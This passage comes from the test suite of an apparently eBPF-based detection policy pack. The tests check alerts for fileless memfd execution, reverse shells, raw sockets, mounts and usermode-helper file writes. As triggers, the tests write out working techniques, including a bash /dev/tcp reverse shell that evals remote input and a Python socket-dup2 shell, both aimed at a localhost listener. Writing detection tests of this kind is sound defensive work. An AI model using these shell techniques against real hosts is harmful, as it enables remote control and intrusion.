    want = sorted([(r.pid, 16, ids["target"]), (r.pid, 0x4206, ids["target"]),
                   (ids["child"], 0, 0)])
    check(got == want, "events %r, want %r (PTRACE_DETACH must not be reported)" % (got, want))


# --- 10. fileless execution ------------------------------------------------------------

MEMFD_EXEC = r'''
import subprocess
m = os.memfd_create("hornet-pack-test", 0)
with open(sys.argv[1], "rb") as f:
    os.write(m, f.read())
p = subprocess.Popen(["/proc/self/fd/%d" % m], pass_fds=(m,))
p.wait()
print(json.dumps({"pid": p.pid, "rc": p.returncode}))
'''


@test("fileless_and_scratch_dir_exec")
def _():
    a = start("fileless-exec.yaml")
    pol = "hornet-fileless-exec"
    r = py(MEMFD_EXEC, TRUE)
    child = r.json()
    check(child["rc"] == 0, "exec of the memfd failed: %r" % child)
    mc = one(wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid), "memfd_create")
    check(fn(mc) == "__x64_sys_memfd_create" and
          mc["args"] == [{"string_arg": "hornet-pack-test"}, {"uint_arg": 0}], "event %r" % mc)
    ex = one(wait_events(a, pol, lambda e: e["process"]["pid"] == child["pid"]), "memfd exec")
    check(fn(ex) == "sched_process_exec" and
          ex["args"][0]["linux_binprm_arg"]["path"].startswith("/memfd:hornet-pack-test"),
          "event %r" % ex)
    check(ex["process"]["binary"].startswith("/memfd:hornet-pack-test"), "binary %r" %
          ex["process"]["binary"])
    ran = []
    for where in ("/tmp", "/var/tmp", "/dev/shm"):
        d = tmpdir(where)
        try:
            exe = os.path.join(d, "payload")
            shutil.copy(TRUE, exe)
            os.chmod(exe, 0o755)
            try:
                p = Run([exe])
            except PermissionError:
                out("%s is mounted noexec: nothing runs from there" % where)
                continue
            ev = one(wait_events(a, pol, lambda e: e["process"]["pid"] == p.pid), exe)
            check(ev["args"][0]["linux_binprm_arg"]["path"] == exe and
                  ev["process"]["binary"] == exe, "event %r" % ev)
            ran.append(where)
        finally:
            shutil.rmtree(d)
    check(ran, "no scratch directory allows exec")
    ld = "/lib64/ld-linux-x86-64.so.2"
    if os.path.exists(ld):
        p = Run([ld, TRUE])
        ev = one(wait_events(a, pol, lambda e: e["process"]["pid"] == p.pid), "ld.so exec")
        check(ev["args"][0]["linux_binprm_arg"]["path"].endswith("/ld-linux-x86-64.so.2") and
              ev["message"].startswith("dynamic loader run as a program"), "event %r" % ev)
    t = Run([TRUE])
    settle(a)
    check(not pack_events(a, pol, pid=t.pid), "%s was reported" % TRUE)


# --- 11. reverse shells ----------------------------------------------------------------

class Listener:
    """A TCP listener on 127.0.0.1 that sends each client a line and keeps what it answers."""

    def __init__(self, line=b"echo hello\n"):
        self.srv = socket.socket()
        self.srv.bind(("127.0.0.1", 0))
        self.srv.listen(4)
        self.port = self.srv.getsockname()[1]
        self.got = []
        self.line = line
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                c, _ = self.srv.accept()
            except OSError:
                return
            c.settimeout(10)
            data = b""
            try:
                c.sendall(self.line)
                while True:
                    chunk = c.recv(4096)
                    if not chunk:
                        break
                    data += chunk
            except OSError:
                pass
            self.got.append(data)
            c.close()

    def close(self):
        self.srv.close()


REVERSE_PY = r'''
import socket
r, w = os.pipe()
os.dup2(w, 1)                                           # a pipe as stdout: not reported
a, b = socket.socketpair()
os.dup2(a.fileno(), 2)                                  # a unix socket as stderr: not reported
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1):
    os.dup2(s.fileno(), fd)                             # dup2
os.dup2(s.fileno(), 2, inheritable=False)               # dup3
os.write(1, b"python was here\n")
'''


@test("reverse_shell")
def _():
    a = start("reverse-shell.yaml")
    pol = "hornet-reverse-shell"
    lst = Listener()
    try:
        r = py(REVERSE_PY, lst.port)
        wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=3)
        settle(a)
        got = [(fn(e), e["args"][1]["int_arg"], e["args"][0]["file_arg"]["permission"][0])
               for e in pack_events(a, pol, pid=r.pid)]
        check(got == [("__x64_sys_dup2", 0, "s"), ("__x64_sys_dup2", 1, "s"),
                      ("__x64_sys_dup3", 2, "s")], "python: %r" % got)
        bash = shutil.which("bash")
        if not bash:
            out("no bash here: the /dev/tcp reverse shell was not tried")
            return
        b = Run([bash, "-c", "exec 3<>/dev/tcp/127.0.0.1/%d; exec 0<&3 1>&3 2>&3; "
                 "read -r line; eval \"$line\"" % lst.port])
        evs = wait_events(a, pol, lambda e: e["process"]["pid"] == b.pid, n=3)
        got = sorted(e["args"][1]["int_arg"] for e in evs)
        check(got == [0, 1, 2], "bash: newfds %r" % got)
        check(all(e["process"]["binary"] == os.path.realpath(bash) and
                  e["args"][0]["file_arg"]["permission"].startswith("s") for e in evs),
              "bash events %r" % evs)
        deadline = time.monotonic() + 10
        while len(lst.got) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        check(b"python was here\n" in lst.got and b"hello\n" in lst.got,
              "the shells did not talk to the listener: %r" % lst.got)
    finally:
        lst.close()


# --- 12. packet and raw sockets --------------------------------------------------------

RAW_SOCKETS = r'''
res = []
for family, typ, proto in [(17, 3, 0),                  # AF_PACKET, SOCK_RAW
                           (17, 2 | 0x80000, 0),        # AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC
                           (2, 3 | 0x800, 1),           # AF_INET, SOCK_RAW | SOCK_NONBLOCK, ICMP
                           (10, 3 | 0x80800, 58),       # AF_INET6, SOCK_RAW | both, ICMPv6
                           (16, 3 | 0x80000, 0),        # AF_NETLINK, SOCK_RAW: not reported
                           (2, 2, 0), (2, 1 | 0x80000, 0)]:  # UDP, TCP: not reported
    fd = libc.socket(family, typ, proto)
    res.append([family, typ, fd >= 0])
    if fd >= 0:
        os.close(fd)
print(json.dumps(res))
'''


@test("raw_and_packet_sockets")
def _():
    a = start("raw-sockets.yaml")
    pol = "hornet-raw-sockets"
    r = py(RAW_SOCKETS)
    wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=4)
    settle(a)
    got = [[e["args"][0]["int_arg"], e["args"][1]["int_arg"]]
           for e in pack_events(a, pol, pid=r.pid)]
    check(got == [[17, 3], [17, 0x80002], [2, 0x803], [10, 0x80803]],
          "events %r (sockets %r)" % (got, r.json()))


# --- 13. mounts ------------------------------------------------------------------------

MOUNTS = r'''
target = sys.argv[1]
os.chdir(os.path.dirname(target))
rel = os.path.basename(target).encode()
ok(libc.mount(b"hornet-pack-test", rel, b"tmpfs", 0, b"size=1m"), "mount")   # a relative target
ok(libc.umount2(target.encode(), 0), "umount")
# the new mount API: fsopen, fsconfig(FSCONFIG_CMD_CREATE), fsmount, move_mount
fs = libc.syscall(430, b"tmpfs", 1)
assert fs >= 0, ctypes.get_errno()
ok(libc.syscall(431, fs, 6, None, None, 0), "fsconfig")
mnt = libc.syscall(432, fs, 1, 0)
assert mnt >= 0, ctypes.get_errno()
ok(libc.syscall(429, mnt, b"", -100, target.encode(), 4), "move_mount")   # F_EMPTY_PATH
os.close(mnt)                                     # an open fd keeps the mount busy
os.close(fs)
ok(libc.umount2(target.encode(), 0), "umount")
'''


def mounted(path):
    with open("/proc/self/mountinfo") as f:
        return any(line.split()[4] == path for line in f)


@test("mounts")
def _():
    a = start("mount.yaml")
    pol = "hornet-mount"
    d = tmpdir()
    try:
        r = py(MOUNTS, d, check_rc=False)
        check(not mounted(d), "left mounted")
        check(r.rc == 0, "trigger failed: %s" % r.err[-500:])
        wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=4)
        settle(a)
        got = {fn(e): e["args"] for e in pack_events(a, pol, pid=r.pid)}
        check(got.get("__x64_sys_mount") == [{"string_arg": "hornet-pack-test"},
                                             {"string_arg": d}, {"string_arg": "tmpfs"},
                                             {"size_arg": 0}], "mount %r" % got)
        check(got.get("__x64_sys_fsopen") == [{"string_arg": "tmpfs"}, {"uint_arg": 1}],
              "fsopen %r" % got)
        check("__x64_sys_fsmount" in got, "fsmount %r" % got)
        check(got.get("__x64_sys_move_mount", [{}, {}])[1] == {"string_arg": d},
              "move_mount %r" % got)
    finally:
        if mounted(d):
            ctypes.CDLL(None).umount2(d.encode(), 2)   # MNT_DETACH
        os.rmdir(d)


# --- 14. usermode helpers: release_agent, core_pattern, modprobe -------------------------

HELPER_FILES = r'''
d = sys.argv[1]
os.close(os.open(d + "/release_agent", os.O_WRONLY | os.O_CREAT, 0o644))   # the postfix
os.close(os.open(d + "/not_release_agent", os.O_WRONLY | os.O_CREAT, 0o644))
# opened for writing and closed: nothing is written
os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
os.symlink("/proc/sys/kernel/core_pattern", d + "/crash-settings")
os.close(os.open(d + "/crash-settings", os.O_WRONLY))                     # through a symlink
read("/proc/sys/kernel/core_pattern")                                     # a read: no event
'''


@test("usermode_helper_files")
def _():
    a = start("usermode-helpers.yaml")
    pol = "hornet-usermode-helpers"
    d = tmpdir()
    try:
        with open("/proc/sys/kernel/core_pattern") as f:
            before = f.read()
        r = py(HELPER_FILES, d)
        wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=3)
        settle(a)
        got = [(e["args"][0]["string_arg"], ret_path(e)) for e in pack_events(a, pol, pid=r.pid)]
        cp = "/proc/sys/kernel/core_pattern"
        check(got == [(d + "/release_agent", d + "/release_agent"), (cp, cp),
                      (d + "/crash-settings", cp)], "events %r" % got)
        with open(cp) as f:
            check(f.read() == before, "core_pattern changed!")
    finally:
        shutil.rmtree(d)


# --- the whole pack ----------------------------------------------------------------------

@test("pack_loads_whole")
def _():
    names = policy_names()
    check(len(names) >= 10, "only %d policies in %s" % (len(names), PACK))
    for f, name in names.items():
        check(name.startswith("hornet-"), "%s: name %r" % (f, name))
        with open(os.path.join(PACK, f)) as fh:
            check(fh.readline().startswith("# hornet-"), "%s does not start with its comment" % f)
    r = subprocess.run([HORNET, "policy", "check"] + sorted(glob.glob(PACK + "/*.yaml")),
                       capture_output=True, timeout=120)
    bad = [line for line in (r.stdout + r.stderr).decode().splitlines() if ": ok (" not in line]
    no_cap_tp = cap_policy_file() != "dangerous-capabilities.yaml"
    if no_cap_tp:   # documented: replace the file by its variant on such kernels
        bad = [line for line in bad if "no tracepoint capability/cap_capable" not in line]
    check(not bad and (r.returncode == 0 or no_cap_tp), "hornet policy check: %s" %
          " | ".join(bad))
    t0 = time.monotonic()
    a = start_pack()
    out("the pack (%d policies) loaded in %.1f s" % (len(names), time.monotonic() - t0))
    pols = a.policies()
    if no_cap_tp:
        name = "hornet-dangerous-capabilities"
        check(pols[name]["state"] == "error" and
              "no tracepoint capability/cap_capable" in pols[name]["error"], "%r" % pols[name])
        a.policy("delete", name)
        a.policy("add", pack_path(CAP_VARIANT))
        out("%s replaced by %s" % (name, CAP_VARIANT))
        pols = a.policies()
    for f, name in names.items():
        p = pols.get(name)
        check(p and p["state"] == "enabled" and p["hooks"], "%s: %r" % (name, p))
    check(set(pols) == set(names.values()), "policies %r, files %r" % (sorted(pols), names))
    r = subprocess.run([HORNET, "policy", "--socket", a.socket, "list", "-o", "json"],
                       capture_output=True, timeout=60)
    listed = {p["name"]: p["state"] for p in json.loads(r.stdout)["policies"]}
    check(all(listed[n] == "enabled" for n in names.values()), "list %r" % listed)


UNRELATED = r'''
import socket, subprocess
d = sys.argv[1]
read("/etc/hostname")
read("/etc/passwd")
with open(d + "/file", "w") as f:
    f.write("x")
os.chmod(d + "/file", 0o600)
os.rename(d + "/file", d + "/file2")
os.unlink(d + "/file2")
socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close()
r, w = os.pipe()
os.dup2(w, 1)
subprocess.run([sys.argv[2]])
subprocess.run(["/bin/sh", "-c", "ls / > /dev/null"])
'''


@test("pack_unrelated_activity_is_not_reported")
def _():
    a = start_pack()
    d = tmpdir()
    try:
        r = py(UNRELATED, d, TRUE)
        c = Run([CAT, "/etc/hostname"])
        t = Run([TRUE])
        settle(a)
        pids = {r.pid, c.pid, t.pid}
        # the children of the trigger (true, sh, ls) too: every exec of this run's processes
        for ev in a.events():
            if "process_exec" in ev and ev["process_exec"].get("parent", {}).get("pid") in pids:
                pids.add(ev["process_exec"]["process"]["pid"])
        settle(a)
        for ev in a.events():
            if "process_exec" in ev and ev["process_exec"].get("parent", {}).get("pid") in pids:
                pids.add(ev["process_exec"]["process"]["pid"])
        evs = [e for e in pack_events(a) if e["process"]["pid"] in pids]
        check(not evs, "pack events for ordinary activity: %r" %
              [(e["policy_name"], e["process"]["binary"], fn(e), e["args"]) for e in evs])
    finally:
        shutil.rmtree(d)


SHARED = r'''
d = sys.argv[1]
etc = sys.argv[2]
os.close(os.open(etc, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))      # system-file-writes
os.unlink(etc)                                                           # system-file-writes
put(d + "/id_rsa")                                                       # nothing (a write)
read(d + "/id_rsa")                                                      # sensitive-file-reads
os.close(os.open(d + "/release_agent", os.O_WRONLY | os.O_CREAT, 0o644))  # usermode-helpers
put(d + "/m.ko")                                                         # kernel-modules
'''


@test("pack_policies_sharing_a_hook_each_report_their_own")
def _():
    a = start_pack()
    d = tmpdir()
    etc = tempfile.mktemp(prefix="hornet-pack-test-", dir="/etc")
    try:
        r = py(SHARED, d, etc)
        wait_events(a, None, lambda e: e["process"]["pid"] == r.pid, n=5)
        settle(a)
        evs, vfs = vfs_open_apart(pack_events(a, pid=r.pid))
        check(len(vfs) == (1 if features().get("kprobe") else 0) and
              all(p.endswith("/id_rsa") for p in vfs), "vfs_open: %r" % vfs)
        got = sorted((e["policy_name"], fn(e), ret_path(e) or e["args"][0].get("string_arg"))
                     for e in evs)
        want = sorted([("hornet-system-file-writes", "__x64_sys_openat", etc),
                       ("hornet-system-file-writes", "__x64_sys_unlink", etc),
                       ("hornet-sensitive-file-reads", "__x64_sys_openat", d + "/id_rsa"),
                       ("hornet-usermode-helpers", "__x64_sys_openat", d + "/release_agent"),
                       ("hornet-kernel-modules", "__x64_sys_openat", d + "/m.ko")])
        check(got == want, "events %r, want %r" % (got, want))
    finally:
        shutil.rmtree(d)
        for p in glob.glob(etc + "*"):
            os.unlink(p)


IDLE_SECONDS = 60
IDLE_MAX_PER_MINUTE = 10


@test("pack_is_quiet_when_idle")
def _():
    a = start_pack()
    time.sleep(2)                  # what the agent's own start caused is not idle activity
    settle(a)
    start = len(a.events())
    # Idle means what runs anyway: the agent itself, the daemons, this test. A process that
    # starts during the minute is activity (a package manager in another terminal, the other
    # tests in the parallel lanes of tests/run), not idleness: counted apart, not held against
    # the pack.
    before = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    time.sleep(IDLE_SECONDS)
    settle(a)
    evs = []
    others = collections.Counter()
    new = collections.Counter()
    for ev in a.events()[start:]:
        for k in EVENT_KINDS:
            b = ev.get(k)
            if not b or not is_pack(b):
                continue
            if b["process"]["pid"] not in before:
                new[b["policy_name"]] += 1
                continue
            # other hornet agents (other test runs on this machine) load BPF programs and
            # may run from /tmp, and the other lanes list programs with bpftool (one
            # listing of hundreds of programs can outlast the minute's start on a loaded
            # machine): the pack reports them, rightly, but they are not this machine idle
            if os.path.basename(b["process"].get("binary", "")) in ("hornet", "bpftool") and \
                    b["process"]["pid"] != a.proc.pid:
                others[b["policy_name"]] += 1
                continue
            evs.append(b)
    per_min = len(evs) * 60.0 / IDLE_SECONDS
    out("%d pack events in %d s idle: %.1f per minute" % (len(evs), IDLE_SECONDS, per_min))
    by = collections.Counter((e["policy_name"], e["process"].get("binary"), fn(e)) for e in evs)
    for (pol, binary, f), n in by.most_common(10):
        out("%4d %s %s %s" % (n, pol, binary, f))
    if others:
        out("not counted: %s from other hornet agents and bpftool" %
            ", ".join("%d %s" % (n, p) for p, n in others.most_common()))
    if new:
        out("not counted: %s from processes started during the minute" %
            ", ".join("%d %s" % (n, p) for p, n in new.most_common()))
    check(per_min <= IDLE_MAX_PER_MINUTE, "%.1f pack events per minute on an idle machine "
          "(at most %d): %r" % (per_min, IDLE_MAX_PER_MINUTE, by.most_common(5)))


run()
